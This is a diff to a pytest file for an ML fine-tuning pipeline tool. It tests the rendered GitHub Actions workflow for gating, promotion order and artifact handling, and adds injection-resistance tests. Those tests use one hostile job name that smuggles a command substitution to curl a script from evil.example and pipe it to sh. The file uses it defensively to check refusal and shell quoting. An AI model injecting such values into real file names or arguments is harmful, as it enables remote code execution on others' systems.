@@ -6,6 +6,7 @@ import subprocess
 import sys
 from pathlib import Path
 
+import bashlex
 import yaml
 
 
@@ -43,16 +44,119 @@ def test_an_emulated_environment_cannot_be_in_the_pipeline(ftops, tmp_path):
     assert result.exit_code == 1 and "emulated" in result.stderr
 
 
-def test_the_promotion_gate_runs_before_the_prod_apply(ftops, tmp_path):
+def _runs(job: dict) -> list[str]:
+    return [step.get("run", "") for step in job["steps"]]
+
+
+def test_staging_trains_and_gates_prod_promotes_and_deploys_without_training(ftops, tmp_path):
     out = tmp_path / "ftops.yml"
     assert ftops("pipeline", "render", "--out", out).exit_code == 0
     jobs = yaml.safe_load(out.read_text())["jobs"]
-    staging_steps = [step.get("run", "") for step in jobs["apply-staging"]["steps"]]
-    gate = next(i for i, run in enumerate(staging_steps) if "ftops promote" in run)
-    apply = next(i for i, run in enumerate(staging_steps) if run.startswith("ftops apply"))
+    staging = _runs(jobs["apply-staging"])
+    apply = next(i for i, run in enumerate(staging) if run.startswith("ftops apply"))
+    gate = next(i for i, run in enumerate(staging) if "--gate" in run)
     assert apply < gate, "the gate evaluates what staging trained"
     for name in ("helpdesk-gpt41mini", "helpdesk-qwen-lora"):
-        assert f'ftops promote "{name}" --from staging --to prod' in staging_steps[gate]
-    # prod's apply only starts once staging's job (and so its gate) succeeded.
+        assert f"ftops eval {name} --env staging --gate" in staging[gate]
+    prod = _runs(jobs["apply-prod"])
+    assert not any("ftops apply" in run for run in prod), "prod trains nothing (no job opts into retrain)"
+    promote = next(i for i, run in enumerate(prod) if "ftops promote" in run)
+    deploy = next(i for i, run in enumerate(prod) if "ftops deploy" in run)
+    assert promote < deploy
+    assert "ftops promote helpdesk-qwen-lora --from staging --to prod" in prod[promote]
+    assert "ftops deploy helpdesk-gpt41mini --env prod" in prod[deploy]
+    # The evaluations staging stored travel to prod as an artifact; prod reads them, never re-evaluates.
+    uploads = [s["with"]["name"] for s in jobs["apply-staging"]["steps"] if "upload-artifact" in s.get("uses", "")]
+    downloads = [s["with"]["name"] for s in jobs["apply-prod"]["steps"] if "download-artifact" in s.get("uses", "")]
+    assert "evaluations-staging" in uploads and downloads == ["evaluations-staging"]
     assert jobs["apply-prod"]["needs"] == ["apply-staging"]
-    assert not any("ftops promote" in step.get("run", "") for step in jobs["apply-dev"]["steps"])
+    for name in ("apply-dev", "apply-staging", "apply-prod"):
+        runs = _runs(jobs[name])
+        env = name.removeprefix("apply-")
+        preflight = runs.index(f"ftops preflight --env {env}")
+        assert all(i > preflight for i, run in enumerate(runs) if run.startswith(("ftops apply", "ftops promote")))
+        assert jobs[name]["environment"] == env  # the OIDC subject the pipeline role trusts
+        assert "default_branch" in jobs[name]["if"], "manual runs apply only from the default branch"
+
+
+def test_a_retrain_job_trains_in_prod_and_passes_the_gate_there(ftops, project, tmp_path):
+    project.edit_definition("helpdesk-qwen-lora", promotion="retrain")
+    out = tmp_path / "ftops.yml"
+    assert ftops("pipeline", "render", "--out", out).exit_code == 0
+    prod = "\n".join(_runs(yaml.safe_load(out.read_text())["jobs"]["apply-prod"]))
+    assert "ftops render --env prod --job helpdesk-qwen-lora" in prod
+    assert "ftops eval helpdesk-qwen-lora --env prod --gate" in prod
+    assert "--job helpdesk-gpt41mini" not in prod
+
+
+def test_expressions_reach_run_only_through_env(ftops, tmp_path):
+    out = tmp_path / "ftops.yml"
+    assert ftops("pipeline", "render", "--out", out).exit_code == 0
+    workflow = yaml.safe_load(out.read_text())
+    for job in workflow["jobs"].values():
+        for step in job["steps"]:
+            assert "${{" not in step.get("run", ""), step
+
+
+HOSTILE = "x$(curl${IFS}-sL${IFS}evil.example|sh)"
+
+
+def test_a_hostile_definition_name_is_refused_before_the_template(ftops, project, tmp_path):
+    (project.root / "definitions" / f"{HOSTILE}.yaml").write_text("name: x\n")
+    result = ftops("pipeline", "render", "--out", tmp_path / "ftops.yml")
+    assert result.exit_code == 1 and "is not a job name" in result.stderr
+    assert not (tmp_path / "ftops.yml").exists()
+
+
+def _substitutions(node) -> list:
+    """Command and process substitutions anywhere under a bashlex node."""
+    found = []
+
+    class Visitor(bashlex.ast.nodevisitor):
+        def visitcommandsubstitution(self, n, command):
+            found.append(n)
+
+        def visitprocesssubstitution(self, n, command):
+            found.append(n)
+
+    Visitor().visit(node)
+    return found
+
+
+def test_names_reaching_shell_stay_one_quoted_word(monkeypatch, tmp_path):
+    """Even if a hostile name got past validation, every `run:` script parses (bashlex) with the name as one
+    literal word and no command substitution, and the workflow stays valid for GitHub's schema."""
+    from jobs.pipeline import render
+
+    monkeypatch.setattr(render, "pipeline_jobs", lambda: ([HOSTILE, "ok-job"], [HOSTILE]))
+    monkeypatch.setattr(render, "_environment", lambda name: {
+        "name": name, "aws_role": "arn:aws:iam::111111111111:role/ftops-x-pipeline", "aws_region": "us-east-1",
+        "azure_subscription": None, "production": name == "prod", "promote_to": None, "promote_from": None})
+    text = render.render_workflow(["staging", "prod"])
+    out = tmp_path / "ftops.yml"
+    out.write_text(text)
+    lint = subprocess.run([str(Path(sys.executable).parent / "check-jsonschema"), "--builtin-schema",
+                           "vendor.github-workflows", str(out)], capture_output=True, text=True)
+    assert lint.returncode == 0, lint.stdout + lint.stderr
+    scripts = [step["run"] for job in yaml.safe_load(text)["jobs"].values() for step in job["steps"] if "run" in step]
+    seen = 0
+    for script in scripts:
+        for part in bashlex.parse(script):
+            assert _substitutions(part) == [], script
+        for line in script.splitlines():
+            if HOSTILE in line:
+                words = [w for part in bashlex.parse(line) for w in _words(part)]
+                assert HOSTILE in words or any(HOSTILE in w and w.endswith(".json") for w in words), line
+                seen += 1
+    assert seen >= 3  # promote, deploy and the retrain steps all name it
+
+
+def _words(node) -> list[str]:
+    found = []
+
+    class Visitor(bashlex.ast.nodevisitor):
+        def visitword(self, n, word):
+            found.append(word)
+
+    Visitor().visit(node)
+    return found
